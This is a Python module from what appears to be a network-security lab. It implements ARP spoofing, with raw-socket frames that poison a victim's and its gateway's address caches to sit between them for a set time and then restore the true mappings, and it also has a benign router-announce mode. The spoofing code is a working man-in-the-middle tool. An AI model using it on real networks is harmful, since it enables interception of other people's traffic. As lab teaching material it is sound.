"""False answers about who has an address (RFC 826): `python -m lab.arp_spoof VICTIM SECONDS`.

Tells a PC that the gateway has our card and the gateway that the PC has it, every two seconds; the
kernel passes on what then arrives. At the end the truth is told again, so nobody is left cut off.
`python -m lab.arp_spoof announce SEGMENT` is the harmless relative: a router announces itself.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

from lab import world

REPLY, BROADCAST, EVERY_S = 2, "ff:ff:ff:ff:ff:ff", 2.0


def frame(to_mac: str, sender_mac: str, sender_ip: str, target_ip: str, card: str) -> bytes:
    """An ARP reply from `card` to `to_mac`: the address `sender_ip` is at `sender_mac`."""
    target = bytes(6) if to_mac == BROADCAST else _mac(to_mac)
    return (
        struct.pack("!6s6sH", _mac(to_mac), _mac(card), 0x0806)
        + struct.pack("!HHBBH", 1, 0x0800, 6, 4, REPLY)
        + struct.pack("!6s4s", _mac(sender_mac), socket.inet_aton(sender_ip))
        + struct.pack("!6s4s", target, socket.inet_aton(target_ip))
    )


def _mac(text: str) -> bytes:
    return bytes.fromhex(text.replace(":", ""))


def spoof(device: str, card: str, victim: world.Machine, lasts_s: float) -> int:
    """Stand between a machine and its gateway for `lasts_s`; returns how often it was said."""
    segment, said = victim.segment, 0
    ends = ((victim.mac, victim.ip), (segment.gateway_mac, segment.gateway4))
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as port:
        port.bind((device, 0))
        until = time.monotonic() + lasts_s
        while time.monotonic() < until:
            for (mac, ip), (_, other) in (ends, ends[::-1]):
                port.send(frame(mac, card, other, ip, card))
                said += 1
            time.sleep(EVERY_S)
        for _ in range(3):
            for (mac, ip), (true_mac, other) in (ends, ends[::-1]):
                port.send(frame(mac, true_mac, other, ip, card))
            time.sleep(0.5)
    return said


def announce(segment: world.Segment) -> None:
    """The router says thrice, to everybody, where its own address is (RFC 5227, section 3)."""
    card, own = segment.gateway_mac, segment.gateway4
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as port:
        port.bind((f"{segment.name}0", 0))
        for _ in range(3):
            port.send(frame(BROADCAST, card, own, own, card))
            time.sleep(1.0)


def main() -> None:
    """Spoof, or announce."""
    if sys.argv[1] == "announce":
        announce(next(s for s in world.SEGMENTS if s.name == sys.argv[2]))
    else:
        own = world.PATIENT_ZERO.mac
        print(spoof("eth0", own, world.BY_NAME[sys.argv[1]], float(sys.argv[2])), flush=True)


if __name__ == "__main__":
    main()
